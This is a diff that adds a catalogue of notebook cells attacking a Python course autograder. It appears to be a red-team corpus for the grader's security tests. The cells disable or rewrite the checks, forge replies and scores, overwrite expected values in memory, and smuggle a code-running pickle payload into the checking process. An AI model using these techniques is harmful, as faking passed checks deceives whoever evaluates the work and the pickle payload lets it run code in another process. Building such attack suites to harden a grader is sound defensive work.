@@ -4,3 +4,312 @@
 # twin: process
 import course_utils.expect
 course_utils.expect.expect = lambda *arguments, **options: None
+# %% makes pytest run every test without calling it
+# must not: the pytest that runs the checks
+# flag: _pytest
+# twin: process
+import _pytest.python, pytest
+_pytest.python.pytest_pyfunc_call = pytest.hookimpl(lambda pyfuncitem: True)
+# %% gives all, any and sum another meaning for whoever counts the points
+# must not: the process that counts the points
+# flag: builtins
+# twin: process
+import builtins
+builtins.all = builtins.any = lambda values: True
+builtins.sum = lambda values, start=0: 99
+# %% traces every function and turns the condition of an expectation to true
+# must not: the variables of the checks
+# flag: sys.settrace
+# twin: process
+import sys
+def trace(frame, event, argument):
+    if frame.f_code.co_name == "expect":
+        frame.f_locals["condition"] = True
+    return trace
+sys.settrace(trace)
+# %% looks for the checks among all objects and empties their code
+# must not: the functions of the checks
+# flag: gc
+# twin: process
+import gc, types
+def double(x):
+    for found in gc.get_objects():
+        if type(found) is types.FunctionType and found.__name__ == "expect":
+            found.__code__ = (lambda condition, message: None).__code__
+    return x
+# %% finds out which check calls it and takes away what the check compares with
+# must not: the frame of the check that asks
+# flag: f_globals
+# twin: process
+import sys
+def double(x):
+    frame = sys._getframe()
+    while frame is not None:
+        if frame.f_code.co_name.startswith("test_"):
+            frame.f_globals["expect"] = print
+        frame = frame.f_back
+    return x
+# %% overwrites the expected number in the constants of the check's code
+# must not: the memory of the check
+# flag: ctypes
+# twin: process
+import ctypes, sys
+def double(x):
+    frame = sys._getframe()
+    while not frame.f_code.co_name.startswith("test_"):
+        frame = frame.f_back
+        if frame is None:
+            return x
+    constants = frame.f_code.co_consts
+    memory = (ctypes.py_object * len(constants)).from_address(id(constants) + tuple.__basicsize__)
+    memory[constants.index(x + x)] = x
+    return x
+# %% leaves a thread behind that disarms the checks once they are loaded
+# must not: the modules of the checks
+# flag: threading
+# twin: process
+import sys, threading, time
+def disarm():
+    for _ in range(20):
+        for module in list(sys.modules.values()):
+            if hasattr(module, "test_double_example"):
+                module.expect = print
+                return
+        time.sleep(0.005)
+thread = threading.Thread(target=disarm)
+def double(x):
+    if not thread.ident:
+        thread.start()
+    thread.join()
+    return x
+# %% puts an import hook in front that gives whoever asks another expect
+# must not: what the checks import
+# flag: sys.meta_path
+# twin: process
+import importlib.machinery, sys
+class Hook:
+    def find_spec(self, name, path=None, target=None):
+        return importlib.machinery.ModuleSpec(name, self) if name == "course_utils.expect" else None
+    def create_module(self, spec):
+        return None
+    def exec_module(self, module):
+        module.expect = lambda condition, message: None
+sys.modules.pop("course_utils.expect", None)
+sys.meta_path.insert(0, Hook())
+# %% rewrites the checks while they are loaded
+# must not: the text of the checks
+# flag: importlib
+# twin: process
+from importlib.machinery import SourceFileLoader
+def get_code(self, name):
+    text = self.get_data(self.path)
+    if "test_" in self.path:
+        text = text.replace(b"expect(", b"print(")
+    return compile(text, self.path, "exec")
+SourceFileLoader.get_code = get_code
+# %% has the plugin run no check at all
+# must not: the plugin that runs the checks
+# flag: ChecksPlugin.run =
+# twin: process
+from course_utils.checks_plugin import ChecksPlugin
+ChecksPlugin.run = lambda self, exercise, student: []
+# %% reads every reply as an object that equals everything
+# must not: what reads the replies
+# flag: Student._read =
+# twin: process
+from course_utils.student import Outcome, Student
+class Anything:
+    def __eq__(self, other):
+        return True
+Student._read = lambda self, reply, arrays, label: Outcome(Anything())
+# %% lets a number that equals everything pass the encoder as it is
+# must not: be compared itself
+# flag: Encoder.encode =
+# twin: process
+from course_utils.plain import Encoder
+class Always(float):
+    def __eq__(self, other):
+        return True
+honest = Encoder.encode
+def encode(self, value, depth=0):
+    return value if type(value) is Always else honest(self, value, depth)
+Encoder.encode = encode
+def double(x):
+    return Always(x)
+# %% teaches the decoder a record of its own and answers with one
+# must not: the records that the checks know
+# flag: Agent.answer =
+# twin: process
+from course_utils import plain
+from course_utils.agent import Agent
+class Lie:
+    def __eq__(self, other):
+        return True
+plain.RECORDS["Lie"], plain.FIELDS[Lie] = Lie, {}
+honest = Agent.answer
+def answer(self, request, buffers):
+    if request["target"]["name"] != "double":
+        return honest(self, request, buffers)
+    return {"status": "ok", "value": {"t": "Lie", "v": {}}}, []
+Agent.answer = answer
+# %% makes json write that all is true, whatever it is given
+# must not: the results on their way out
+# flag: json.JSONEncoder.encode =
+# twin: process
+import json
+json.JSONEncoder.encode = lambda self, what: "true"
+# %% writes a result of its own into every open file and ends the process
+# must not: the channel that results go through
+# flag: os._exit
+# twin: process
+import os
+for number in range(3, 256):
+    try:
+        if not os.isatty(number):
+            os.set_blocking(number, False)
+            os.write(number, b"true")
+    except OSError:
+        pass
+os._exit(0)
+# %% answers with a subclass of int that equals every number
+# must not: be compared itself
+# flag: __eq__
+# twin: none: tests/security/test_forging.py shows test cells that believe such lies
+class Always(int):
+    __eq__ = lambda self, other: True
+    __hash__ = int.__hash__
+def double(x):
+    return Always(x)
+# %% answers with an object whose type claims to be int
+# must not: be taken for a number
+# flag: __class__
+# twin: none: tests/security/test_forging.py shows test cells that believe such lies
+class Claims(type):
+    __eq__ = lambda self, other: True
+    __hash__ = lambda self: hash(int)
+class Number(metaclass=Claims):
+    __class__ = property(lambda self: int)
+def double(x):
+    return Number()
+# %% claims to have been translated by the agent already, with data that agrees to everything
+# must not: be taken for a record of the engine's
+# flag: __eq__
+# twin: none: tests/test_agent.py shows records that an honest agent makes of the same type
+from course_utils.plain import Array, AxesRecord
+class Agreeing:
+    shape, nbytes = (), 8
+    def __eq__(self, other):
+        return True
+def double(x):
+    return Array(Agreeing(), "scalar", "int64") if x > 0 else AxesRecord(title=Agreeing())
+# %% raises the exceptions that checks use among themselves to say that all is well
+# must not: be taken for the check's own exception
+# flag: pytest
+# twin: none: the agent makes text of whatever is raised, in any process
+import pytest
+from course_utils.student import NotAttempted
+def double(x):
+    if x > 0:
+        pytest.skip("passed", allow_module_level=True)
+    raise NotAttempted("passed")
+# %% pretends that the wrong answer has not been attempted
+# must not: get points for what is not attempted
+# flag: none: an exercise without an answer is nothing unusual
+# twin: none: there is nothing to gain, with any guard or without
+def double(x):
+    raise NotImplementedError("not answered yet")
+# %% rewrites the cells behind it before they run
+# must not: the checks of the exercises behind it
+# flag: input_transformers_post
+# twin: none: tests/security/test_forging.py shows test cells rewritten like that
+def rewritten(lines):
+    return ["pass\n"] if any("check(" in line for line in lines) else lines
+get_ipython().input_transformers_post.append(rewritten)
+# %% replaces check and shows full marks in the way that nbgrader reads them
+# must not: the score of the grade cell
+# flag: check =
+# twin: none: tests/test_nbgrader_bridge.py shows how nbgrader reads a number as points
+def check(exercise):
+    return 2.0
+display({"text/plain": "2.0"}, raw=True)
+check("double")
+# %% replies to every question that its checks have passed, with points
+# must not: be more than a reply
+# flag: get_ipython
+# twin: none: no part of the engine reads points from a reply; tests/test_student.py
+import json
+kernel = get_ipython().kernel
+honest = kernel.shell_handlers["agent_request"]
+async def claim(stream, ident, parent):
+    if parent["content"]["target"].get("name") != "double":
+        return await honest(stream, ident, parent)
+    claims = {"status": "ok", "value": True, "passed": True, "outcome": "passed", "score": 2}
+    content = {"reply": json.dumps(claims), "status": "ok", "score": 2, "points": 2}
+    kernel.session.send(stream, "agent_reply", content, parent, ident=ident)
+kernel.shell_handlers["agent_request"] = claim
+# %% replies with an array in whose pickle is a program
+# must not: run in the process of the checks
+# flag: pickle
+# twin: none: tests/security/test_forging.py shows that the payload is live
+import io, json, pickle
+class Program:
+    def __reduce__(self):
+        return eval, (f"open({COURSE!r} + '/taken', 'w').close() or 6",)
+kernel = get_ipython().kernel
+honest = kernel.shell_handlers["agent_request"]
+async def send_pickle(stream, ident, parent):
+    if parent["content"]["target"].get("name") != "double":
+        return await honest(stream, ident, parent)
+    file = io.BytesIO()
+    np.save(file, np.array([Program()], dtype=object), allow_pickle=True)
+    tree = {"t": "array", "i": 0, "kind": "scalar", "dtype": "object"}
+    content = {"reply": json.dumps({"status": "ok", "value": tree})}
+    kernel.session.send(stream, "agent_reply", content, parent, ident=ident, buffers=[file.getvalue()])
+kernel.shell_handlers["agent_request"] = send_pickle
+# %% answers questions in advance, under the numbers that they are going to have
+# must not: the questions of other exercises
+# flag: get_ipython
+# twin: none: tests/security/test_forging.py shows that other requests' replies would be taken
+# spoils: greet
+import json
+kernel = get_ipython().kernel
+honest = kernel.shell_handlers["agent_request"]
+async def in_advance(stream, ident, parent):
+    head, _, count = parent["header"]["msg_id"].rpartition("_")
+    content = {"reply": json.dumps({"status": "ok", "value": 7})}
+    for number in range(20):
+        later = {"header": {**parent["header"], "msg_id": f"{head}_{int(count) + number}"}}
+        kernel.session.send(stream, "agent_reply", content, later, ident=ident)
+    await honest(stream, ident, parent)
+kernel.shell_handlers["agent_request"] = in_advance
+# %% looks into the request for what the check expects, and answers with that
+# must not: what the check compares with
+# flag: get_ipython
+# twin: none: tests/security/test_answers.py shows what is found where it can be
+def double(x):
+    request = get_ipython().kernel.get_parent("shell")["content"]
+    found = [request.get(name) for name in ("expected", "answer", "solution", "reference")]
+    return next((value for value in found if value is not None), x)
+# %% forks the kernel so that two of it answer, with different numbers
+# must not: the next question
+# flag: os.fork
+# twin: none: one of the two answers is wrong with any guard, or both are
+import os
+mine = os.getpid()
+os.fork()
+def double(x):
+    return x if os.getpid() == mine else 1
+# %% answers with a list that another thread changes while it is read
+# must not: be read in two states
+# flag: threading
+# twin: none: the agent reads it in its own process, and sends what it has read
+import threading, time
+answer = [0]
+def change():
+    for number in range(200_000):
+        answer[:] = [number] * (number % 7)
+        if number % 100 == 0:
+            time.sleep(0)
+def double(x):
+    threading.Thread(target=change, daemon=True).start()
+    return answer
